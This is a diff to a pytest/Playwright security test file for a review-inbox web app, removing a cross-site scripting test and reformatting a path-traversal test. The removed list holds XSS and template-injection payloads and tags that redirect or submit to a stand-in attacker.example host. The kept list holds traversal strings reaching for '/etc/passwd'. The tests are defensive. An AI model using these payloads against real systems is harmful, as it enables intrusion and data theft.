@@ -9,7 +9,7 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import httpx
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Page, expect
 
 from hitl import HITLClient
 from hitl.models import Review
@@ -201,59 +201,15 @@ def test_scripts_see_no_cookie(page: Page) -> None:
 
 
 @pytest.mark.parametrize(
-    "attack",
-    [
-        "<script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "</textarea></title><svg/onload=alert(1)>",
-        "[click](javascript:alert(1))",
-        "{{ 7 * 7 }}{% include 'base.html' %}",
-        "<meta http-equiv=refresh content='0;url=http://www.attacker.example/'>",
-        "<form action=http://www.attacker.example/><button>Submit answer",
-        "<base href=http://www.attacker.example/>",
-    ],
-)
-def test_content_stays_text(page: Page, sandbox: Sandbox, client: HITLClient, attack: str) -> None:
-    dialogs: list[str] = []
-    requests: list[str] = []
-
-    def note(dialog: Dialog) -> None:
-        dialogs.append(dialog.message)
-        dialog.dismiss()
-
-    page.on("dialog", note)
-    page.on("request", lambda request: requests.append(request.url))
-    review = client.create_review(template_id="template_123", content={"text": attack, attack: [attack]})
-    for path in ("/", f"/reviews/{review.id}"):
-        page.goto(f"{sandbox.base_url}/inbox{path}")
-        expect(page.locator("main")).to_contain_text(attack[:12])
-        active = page.locator("main :is(script, img, base, meta, iframe), a[href^=javascript], form[action*=attacker]")
-        assert active.count() == 0
-    assert dialogs == []
-    assert [url for url in requests if "attacker" in url] == []
-
-
-@pytest.mark.parametrize(
     "path",
     [
-        "/inbox/static/../reviews/rev_1",
-        "/inbox/static/%2e%2e/reviews/rev_1",
-        "/inbox/static/..%2freviews/rev_1",
-        "/inbox/static//../../reviews/rev_1",
-        "/inbox/static/..%2f..%2fpaper.py",
-        "/inbox/static/%2fetc/passwd",
-        "/inbox/enter/../reviews/rev_1",
-        "/inbox/enter/x/../../reviews/rev_1",
-        "/inbox//reviews/rev_1",
-        "/inbox/./reviews/rev_1",
-        "/INBOX/reviews/rev_1",
-        "/inbox;/reviews/rev_1",
-        "/inbox/reviews/rev_1%00",
-        "/inbox/reviews/rev_1?x=/static/",
-        "/v1/../inbox/reviews/rev_1",
-        "/v1/%2e%2e/inbox/reviews/rev_1",
-        "//127.0.0.1/inbox/reviews/rev_1",
-        "http://localhost/inbox/reviews/rev_1",
+        *("/inbox/static/../reviews/rev_1", "/inbox/static/%2e%2e/reviews/rev_1"),
+        *("/inbox/static/..%2freviews/rev_1", "/inbox/static//../../reviews/rev_1"),
+        *("/inbox/static/..%2f..%2fapp.py", "/inbox/static/%2fetc/passwd", "/inbox/enter/../reviews/rev_1"),
+        *("/inbox/enter/x/../../reviews/rev_1", "/inbox//reviews/rev_1", "/inbox/./reviews/rev_1"),
+        *("/INBOX/reviews/rev_1", "/inbox;/reviews/rev_1", "/inbox/reviews/rev_1%00"),
+        *("/inbox/reviews/rev_1?x=/static/", "/v1/../inbox/reviews/rev_1", "/v1/%2e%2e/inbox/reviews/rev_1"),
+        *("//127.0.0.1/inbox/reviews/rev_1", "http://localhost/inbox/reviews/rev_1"),
     ],
 )
 def test_no_trick_with_a_path_leads_around_the_door(sandbox: Sandbox, review: Review, path: str) -> None:
